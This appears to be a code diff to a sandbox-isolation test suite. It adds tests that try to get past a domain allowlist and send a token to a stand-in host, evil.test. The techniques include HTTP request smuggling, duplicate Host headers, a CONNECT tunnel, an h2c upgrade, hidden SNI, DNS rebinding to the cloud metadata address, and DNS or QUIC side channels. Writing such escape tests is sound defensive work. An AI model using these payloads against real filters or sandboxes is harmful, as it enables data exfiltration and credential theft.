@@ -95,8 +95,9 @@ class Send:
     what: str
     # Arguments of the sender; addresses that are known only later are named by `world.sent`.
     plan: dict
-    # From `sandbox`, `closed` (one without internet), `outside`, or `forged`: by the host's root in
-    # the sandbox's network, as if a sandbox could make packets.
+    # From `sandbox`, `closed` (one without internet), `named` (one that may reach two domains),
+    # `outside`, or `forged`: by the host's root in the sandbox's network, as if a sandbox could make
+    # packets.
     source: str = "sandbox"
     # `rules`: the packet filter's table is empty; `plain`: from a machine without walls; `house`: from
     # the host itself; `open`: from a sandbox with internet.
@@ -127,7 +128,7 @@ class Send:
         }[self.control]
         if self.void[0]:
             control += f" ({self.void[1]})"
-        who = {"sandbox": "user", "closed": "user", "outside": "outside"}.get(self.source, "forged")
+        who = {"sandbox": "user", "closed": "user", "named": "user", "outside": "outside"}.get(self.source, "forged")
         return Attack(self.name, group, self.what, who, "does not arrive", control, self.check)
 
 
@@ -336,6 +337,18 @@ def forged(name, what, kind, to, source, **more):
     return Send(name, what, {"kind": kind, "to": to, "port": 8765, "source": source}, source="forged", **more)
 
 
+def named(name, what, kind, to="198.51.100.9", port=443, control="open", **plan):
+    """From a sandbox that may reach `open.test` and `*.wild.test`, and nothing else."""
+    plan = {"kind": kind, "to": to, "port": port, **plan}
+    return Send(name, what, plan, source="named", control=control)
+
+
+def says(name, what, text, **more):
+    return named(name, what, "text", port=more.pop("port", 80), says=text, **more)
+
+
+GET = "GET /{0} HTTP/1.1\r\nHost: {1}\r\n\r\n"
+
 SENDS = {
     "Network: other sandboxes and the host": [
         tcp("other-sandbox-tcp", "another sandbox", "OTHER", witness="other"),
@@ -437,6 +450,87 @@ SENDS = {
             source="closed",
             control="open",
         ),
+    ],
+    "Network: domains": [
+        named("domain-other", "TLS to a domain that is not allowed", "hello", host="TOKEN.test"),
+        named("domain-apex", "TLS to the domain of which what is below is allowed", "hello", host="wild.test"),
+        named("domain-that-ends-alike", "TLS to `notwild.test`, beside `*.wild.test`", "hello", host="notwild.test"),
+        named("domain-nameless", "TLS without a name", "hello"),
+        named("domain-address", "TLS with an address as the name", "hello", host="198.51.100.9"),
+        named(
+            "domain-hidden",
+            "TLS with the real name encrypted, behind an allowed one",
+            "hello",
+            host="open.test",
+            hides=True,
+        ),
+        named(
+            "domain-on-another-port", "TLS with an allowed name to another port", "hello", port=8765, host="open.test"
+        ),
+        named(
+            "domain-to-metadata",
+            "TLS to an allowed name that leads to the metadata service",
+            "hello",
+            to="169.254.169.254",
+            control="house",
+            host="rebind.wild.test",
+        ),
+        says("http-other", "HTTP with a host that is not allowed", GET.format("TOKEN", "evil.test")),
+        says("http-address", "HTTP with an address as the host", GET.format("TOKEN", "198.51.100.9")),
+        says("http-hostless", "HTTP without a host", "GET /TOKEN HTTP/1.0\r\n\r\n"),
+        says(
+            "http-two-hosts",
+            "HTTP with an allowed host and another one",
+            "GET /TOKEN HTTP/1.1\r\nHost: open.test\r\nHost: evil.test\r\n\r\n",
+        ),
+        says(
+            "http-two-addresses",
+            "HTTP with an allowed host and another address in its first line",
+            GET.format("TOKEN", "open.test").replace("/", "http://evil.test/", 1),
+        ),
+        says(
+            "http-second-request",
+            "a second request with another host on the connection of an allowed one",
+            GET.format("", "open.test") + GET.format("TOKEN", "evil.test"),
+        ),
+        says(
+            "http-behind-a-body",
+            "a request behind a body whose length is told twice",
+            "POST / HTTP/1.1\r\nHost: open.test\r\nContent-Length: 4\r\nContent-Length: 90\r\n\r\nbody"
+            + GET.format("TOKEN", "evil.test"),
+        ),
+        says(
+            "http-behind-chunks",
+            "a request behind chunks that the length includes",
+            "POST / HTTP/1.1\r\nHost: open.test\r\nContent-Length: 90\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
+            + GET.format("TOKEN", "evil.test"),
+        ),
+        says(
+            "http-upgraded",
+            "HTTP/2 by upgrade, where no hosts are read any more",
+            "GET / HTTP/1.1\r\nHost: open.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
+            "HTTP2-Settings: \r\n\r\nPRI * HTTP/2.0\r\n\r\nTOKEN\r\n\r\n",
+        ),
+        says(
+            "http-tunnel",
+            "a tunnel (`CONNECT`) through an allowed host",
+            "CONNECT evil.test:443 HTTP/1.1\r\nHost: open.test\r\n\r\nTOKEN",
+        ),
+        says(
+            "http-to-metadata",
+            "HTTP to an allowed host that leads to the metadata service",
+            GET.format("TOKEN", "rebind.wild.test"),
+            to="169.254.169.254",
+            control="house",
+        ),
+        says(
+            "http-encrypted-port", "HTTP with an allowed host to port 443", GET.format("TOKEN", "open.test"), port=443
+        ),
+        named("domains-tcp", "any other port", "tcp", port=8765),
+        named("domains-quic", "QUIC, which is UDP to port 443", "udp"),
+        named("domains-dns-over-tls", "DNS over TLS", "text", port=853, says="TOKEN"),
+        named("domains-dns", "what is told by a name that is not allowed", "dns", port=53),
+        named("domains-dns-tcp", "the same by TCP", "dns_tcp", port=53),
     ],
     "Network: forged packets": [
         forged("spoof-other", "another sandbox's address as sender", "forged_udp", "198.51.100.9", "OTHER"),
